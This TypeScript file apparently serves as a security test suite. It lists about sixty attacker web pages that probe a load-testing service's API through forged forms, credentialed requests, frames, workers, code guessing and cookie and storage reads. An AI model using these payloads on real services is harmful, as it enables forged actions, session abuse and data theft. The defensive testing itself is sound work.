/**
 * Pages of an attacker, as he would put them on a server of his own: what each does on its own when somebody opens it in a
 * browser in which the page of a service is open.
 *
 * BASE is the address of the service, TEST, RESULT and APP are ids that nobody there should know, and BACK is a path of the
 * attacker's server that leads a browser on to what is added to it.
 */

interface AttackPage {
  readonly name: string;
  readonly body: string;
}

/** What the scripts of each page have: whatever they can read of the service goes into `got`. */
export const PRELUDE = `<script>
  const got = [];
  window.got = got;
  const keep = (name, value) => {
    const text = typeof value === 'string' ? value : value === undefined || value === null ? '' : String(value);
    if (text !== '') got.push(name + ': ' + text.slice(0, 200));
  };
  const tries = async (name, work) => {
    try {
      keep(name, await work());
    } catch {
      // Refused by the browser.
    }
  };
  const element = (tag, fields) => new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), fields);
    made.onload = () => resolve(made);
    made.onerror = () => resolve(null);
    document.body.append(made);
  });
</script>`;

const APP = '{"app":"evil.example"}';
const LOAD = '{"test_type":"non-cycling","duration":1,"urls":[{"url":"http://127.0.0.1/"}]}';

function scriptPage(text: string): string {
  return `<script>${text}</script>`;
}

/** A form that is sent as soon as the page is there, into a frame that the page then looks into. */
function formPage(attributes: string, fields: string): string {
  return `<iframe name=into></iframe><form target=into ${attributes}>${fields}</form>
    <script>
      document.forms[0].submit();
      into.addEventListener?.('load', () => tries('form', () => into.document.body.innerText));
      setTimeout(() => tries('form', () => into.document.body.innerText), 500);
    </script>`;
}

function formField(name: string, value: string): string {
  const quoted = (text: string) => `"${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"`;
  return `<input name=${quoted(name)} value=${quoted(value)}>`;
}

/** A script that asks for something and keeps what it is told. */
function fetchScript(url: string, init = '{}'): string {
  return scriptPage(`tries('fetch', async () => (await fetch(\`${url}\`, ${init})).text());`);
}

const FORM_PAGES: readonly AttackPage[] = [
  {
    name: 'a form of JSON as text',
    body: formPage(
      'method=post enctype=text/plain action=BASE/v2/apps',
      formField('{"app":"evil.example","x":"', '"}'),
    ),
  },
  { name: 'a form', body: formPage('method=post action=BASE/v2/apps', formField('app', 'evil.example')) },
  {
    name: 'a form with files',
    body: formPage(
      'method=post enctype=multipart/form-data action=BASE/v2/apps',
      formField('app', 'evil.example'),
    ),
  },
  {
    name: 'a form that only asks',
    body: formPage('action=BASE/v2/apps', formField('app', 'evil.example') + formField('_method', 'POST')),
  },
  {
    name: 'a form that stops a test',
    body: formPage('method=post action=BASE/v2/tests/TEST/stop', formField('_method', 'PUT')),
  },
  {
    name: 'a form that starts a test',
    body: formPage('method=post action="BASE/v2/tests/TEST/run?_method=PUT"', ''),
  },
  {
    name: 'a form that deletes an app',
    body: formPage('method=post action="BASE/v2/apps/APP?_method=DELETE"', formField('_method', 'DELETE')),
  },
  {
    name: 'a form that verifies an app',
    body: formPage('method=post action=BASE/v2/apps/APP/verify', formField('method', 'http')),
  },
  { name: 'a form that makes a link', body: formPage('method=post action=BASE/v2/sign-in-codes', '') },
  {
    name: 'a form that tries a link',
    body: formPage(
      'method=post enctype=text/plain action=BASE/v2/sessions',
      formField(`{"code":"${'f'.repeat(32)}","x":"`, '"}'),
    ),
  },
  {
    name: 'a form of load',
    body: formPage(
      'method=post enctype=text/plain action=BASE/v2/tests',
      formField(LOAD.slice(0, -1) + ',"x":"', '"}'),
    ),
  },
  {
    name: 'a button that sends elsewhere',
    body: `<form action=/ target=into><button formaction=BASE/v2/tests/TEST/stop formmethod=post>x</button></form><iframe name=into></iframe>${scriptPage('document.querySelector("button").click();')}`,
  },
];

const RESOURCE_PAGES: readonly AttackPage[] = [
  {
    name: 'pictures',
    body: ['/v2/overview', '/v2/tests/TEST/run', '/v2/tests/TEST/stop', '/metrics']
      .map((path) => `<img src="BASE${path}">`)
      .join(''),
  },
  {
    name: 'a picture that is drawn',
    body: scriptPage(
      `tries('picture', async () => { const made = await element('img', { src: 'BASE/v2/overview' }); return made && 'loaded'; });`,
    ),
  },
  {
    name: 'a style',
    body: `<link rel=stylesheet href=BASE/v2/overview>${scriptPage("setTimeout(() => tries('style', () => [...document.styleSheets].map((sheet) => sheet.cssRules.length).filter(Boolean).join()), 500);")}`,
  },
  {
    name: 'what styles load',
    body: '<style>@import url(BASE/v2/tests); @font-face { font-family: x; src: url(BASE/v2/apps) } body { font-family: x; background: url(BASE/v2/keys) }</style>x',
  },
  {
    name: 'films and sounds',
    body: '<video src=BASE/v2/overview></video><audio src=BASE/v2/tests></audio><video><track default src=BASE/v2/apps></video>',
  },
  {
    name: 'what is loaded ahead',
    body: '<link rel=prefetch href=BASE/v2/overview><link rel=preload as=fetch crossorigin href=BASE/v2/tests><link rel=modulepreload href=BASE/v2/apps><link rel=icon href=BASE/v2/keys><link rel=manifest href=BASE/v2/overview>',
  },
  {
    name: 'rules of what is loaded ahead',
    body: '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["BASE/v2/overview"]}],"prerender":[{"source":"list","urls":["BASE/"]}]}</script>',
  },
  { name: 'a drawing', body: '<svg><image href=BASE/v2/overview /><use href=BASE/#x /></svg>' },
  {
    name: 'a link that tells of its use',
    body: `<a href=# ping=BASE/v2/tests/TEST/stop>x</a>${scriptPage('document.querySelector("a").click();')}`,
  },
  {
    name: 'reports of a policy',
    body: '<meta http-equiv=Content-Security-Policy content="img-src \'none\'; report-uri BASE/v2/apps"><img src=/x>',
  },
];

const SCRIPT_PAGES: readonly AttackPage[] = [
  { name: 'a script', body: `<script src=BASE/v2/overview></script><script src=BASE/v2/tests></script>` },
  {
    name: 'a script with a callback',
    body: `${scriptPage("window.told = (value) => keep('callback', JSON.stringify(value));")}<script src="BASE/v2/overview?callback=told"></script>`,
  },
  {
    name: 'a script in other letters',
    body: '<script charset=utf-16 src=BASE/v2/tests></script><script charset=utf-7 src=BASE/v2/apps></script>',
  },
  {
    name: 'a script whose lists are watched',
    body: `${scriptPage("for (const name of ['title', 'app', 'test_id']) Object.defineProperty(Object.prototype, name, { set(value) { keep('setter', value); } });")}<script src=BASE/v2/tests></script>`,
  },
  {
    name: 'a module',
    body: `<script type=module>await tries('module', async () => JSON.stringify(await import('BASE/v2/overview')));</script>`,
  },
  {
    name: 'the script of the page',
    body: scriptPage(
      "tries('page', async () => { const page = await (await fetch('BASE/')).text(); return page; });",
    ),
  },
  {
    name: 'a worker',
    body: scriptPage(
      "tries('worker', () => new Promise((resolve) => { const made = new Worker(URL.createObjectURL(new Blob([`try { importScripts('BASE/v2/overview'); postMessage('loaded'); } catch { postMessage(''); }`]))); made.onmessage = ({ data }) => resolve(data); }));",
    ),
  },
  {
    name: 'a worker that asks',
    body: scriptPage(
      "tries('worker', () => new Promise((resolve) => { const made = new Worker(URL.createObjectURL(new Blob([`fetch('BASE/v2/tests').then((answer) => answer.text()).then(postMessage, () => postMessage(''))`]))); made.onmessage = ({ data }) => resolve(data); }));",
    ),
  },
];

const FRAME_PAGES: readonly AttackPage[] = [
  {
    name: 'a frame',
    body: `<iframe id=x src=BASE/></iframe>${scriptPage("x.onload = () => tries('frame', () => x.contentDocument.body.innerText);")}`,
  },
  {
    name: 'a frame in a box of its own',
    body: `<iframe id=x sandbox="allow-scripts allow-forms" src=BASE/></iframe>${scriptPage("x.onload = () => tries('frame', () => x.contentDocument.body.innerText);")}`,
  },
  {
    name: 'an object',
    body: `<object id=x data=BASE/></object>${scriptPage("x.onload = () => tries('object', () => x.contentDocument.body.innerText);")}`,
  },
  { name: 'a thing that is embedded', body: '<embed src=BASE/v2/overview><embed src=BASE/>' },
  {
    name: 'a frame in a frame',
    body: `<iframe srcdoc="<iframe src=BASE/></iframe><iframe src=BASE/v2/overview></iframe>"></iframe>`,
  },
  {
    name: 'a frame that leads there later',
    body: `<iframe srcdoc="<meta http-equiv=refresh content=0;url=BASE/#/tests>"></iframe>`,
  },
  {
    name: 'a frame with other rules',
    body: `<iframe csp="default-src *" allow="clipboard-read" src=BASE/></iframe>`,
  },
  {
    name: 'a page of nobody that asks',
    body: `<iframe sandbox=allow-scripts srcdoc="<script>fetch('BASE/v2/tests').then((answer) => answer.text()).then((text) => parent.postMessage(text, '*'))</script>"></iframe>${scriptPage("onmessage = ({ data }) => keep('nobody', data);")}`,
  },
  {
    name: 'a page of nobody that writes',
    body: `<iframe sandbox="allow-scripts allow-forms" srcdoc="<form method=post enctype=text/plain action=BASE/v2/apps><input name='{&quot;app&quot;:&quot;evil.example&quot;,&quot;x&quot;:&quot;' value='&quot;}'></form><script>document.forms[0].submit()</script>"></iframe>`,
  },
  {
    name: 'a page that is data',
    body: `<iframe src="data:text/html,<script>fetch('BASE/v2/apps',{method:'POST',mode:'no-cors',body:'app=evil.example'})</script>"></iframe>`,
  },
];

const REQUEST_PAGES: readonly AttackPage[] = [
  { name: 'a request', body: fetchScript('BASE/v2/overview') + fetchScript('BASE/healthz') },
  {
    name: 'a request with what the browser knows',
    body: fetchScript('BASE/v2/tests', "{ credentials: 'include' }"),
  },
  {
    name: 'a request whose answer is not read',
    body: fetchScript('BASE/v2/tests', "{ mode: 'no-cors', credentials: 'include' }"),
  },
  {
    name: 'a request without a referrer',
    body: fetchScript(
      'BASE/v2/apps',
      `{ method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer', body: '${APP}' }`,
    ),
  },
  {
    name: 'a request with a made up token',
    body: fetchScript('BASE/v2/tests', "{ headers: { authorization: 'Bearer ' + '0'.repeat(64) } }"),
  },
  {
    name: 'a request with a made up key',
    body: fetchScript(
      'BASE/v2/tests/TEST/stop',
      "{ method: 'PUT', headers: { 'service-auth': '0'.repeat(32) } }",
    ),
  },
  { name: 'a request that puts', body: fetchScript('BASE/v2/tests/TEST/run', "{ method: 'PUT' }") },
  {
    name: 'a request that deletes',
    body:
      fetchScript('BASE/v2/apps/APP', "{ method: 'DELETE' }") +
      fetchScript('BASE/v2/sessions', "{ method: 'DELETE' }"),
  },
  {
    name: 'a request that overrides its method',
    body: fetchScript(
      'BASE/v2/tests/TEST/stop',
      "{ method: 'POST', headers: { 'x-http-method-override': 'PUT' } }",
    ),
  },
  {
    name: 'a request of JSON',
    body: fetchScript(
      'BASE/v2/apps',
      `{ method: 'POST', headers: { 'content-type': 'application/json' }, body: '${APP}' }`,
    ),
  },
  {
    name: 'a request of JSON as text',
    body: fetchScript(
      'BASE/v2/apps',
      `{ method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain;application/json' }, body: '${APP}' }`,
    ),
  },
  {
    name: 'a verdict',
    body: fetchScript(
      'BASE/v2/tests/TEST/results/RESULT/verdict',
      `{ method: 'POST', mode: 'no-cors', body: '{"verdict":"pass","thresholds":[]}' }`,
    ),
  },
  {
    name: 'a request that is led on',
    body:
      fetchScript('BACK302/v2/overview') +
      fetchScript('BACK302/v2/tests', "{ mode: 'no-cors', credentials: 'include' }"),
  },
  {
    name: 'a body that is led on',
    body:
      fetchScript('BACK307/v2/apps', `{ method: 'POST', mode: 'no-cors', body: '${APP}' }`) +
      formPage(
        'method=post enctype=text/plain action=BACK308/v2/apps',
        formField('{"app":"evil.example","x":"', '"}'),
      ),
  },
  {
    name: 'a request that outlives its page',
    body: fetchScript(
      'BASE/v2/tests/TEST/stop',
      "{ method: 'POST', mode: 'no-cors', keepalive: true, body: '{}' }",
    ),
  },
  {
    name: 'beacons',
    body: scriptPage(
      `for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded']) try { navigator.sendBeacon('BASE/v2/apps', new Blob(['${APP}'], { type })); } catch {}`,
    ),
  },
  {
    name: 'an older kind of request',
    body: scriptPage(
      "tries('older', () => new Promise((resolve) => { const made = new XMLHttpRequest(); made.open('GET', 'BASE/v2/overview'); made.withCredentials = true; made.onloadend = () => resolve(made.responseText); made.send(); }));",
    ),
  },
  {
    name: 'a stream of events',
    body: scriptPage(
      "tries('events', () => new Promise((resolve) => { const made = new EventSource('BASE/v2/overview'); made.onmessage = ({ data }) => resolve(data); made.onerror = () => { made.close(); resolve(''); }; }));",
    ),
  },
  {
    name: 'sockets',
    body: scriptPage(
      "for (const path of ['/', '/v2/overview', '/v2/tests/TEST/results/RESULT/progress']) tries('socket', () => new Promise((resolve) => { const made = new WebSocket(`${'BASE'.replace('http', 'ws')}${path}`, ['x']); made.onopen = () => resolve('open'); made.onmessage = ({ data }) => resolve(data); made.onerror = () => resolve(''); }));",
    ),
  },
  {
    name: 'how long and how large answers are',
    body: scriptPage(
      "tries('sizes', async () => { await fetch('BASE/v2/tests', { mode: 'no-cors' }).catch(() => null); return performance.getEntriesByType('resource').filter(({ name }) => name.includes('/v2/')).map(({ transferSize, encodedBodySize, responseStart }) => transferSize + encodedBodySize + responseStart).filter(Boolean).join(); });",
    ),
  },
  {
    name: 'wrong links',
    body: scriptPage(
      "for (let at = 0; at < 40; at++) tries('link', async () => (await fetch('BASE/v2/sessions', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ code: String(at).padStart(32, '0') }) })).text());",
    ),
  },
];

const WINDOW_PAGES: readonly AttackPage[] = [
  {
    name: 'a channel',
    body: scriptPage(
      "tries('channel', () => new Promise((resolve) => { const made = new BroadcastChannel('loadtests-session'); made.onmessage = ({ data }) => resolve(JSON.stringify(data)); made.postMessage({ kind: 'who-has-a-token' }); setTimeout(resolve, 400, ''); }));",
    ),
  },
  {
    name: 'what is stored',
    body: scriptPage(
      "tries('storage', () => [...Object.keys(sessionStorage), ...Object.keys(localStorage)].join()); tries('cookies', () => document.cookie); tries('databases', async () => (await indexedDB.databases()).map(({ name }) => name).join()); tries('caches', async () => (await caches.keys()).join());",
    ),
  },
];

/** At least sixty. */
export const ATTACK_PAGES: readonly AttackPage[] = [
  ...[FORM_PAGES, RESOURCE_PAGES, SCRIPT_PAGES, FRAME_PAGES, REQUEST_PAGES, WINDOW_PAGES].flat(),
];
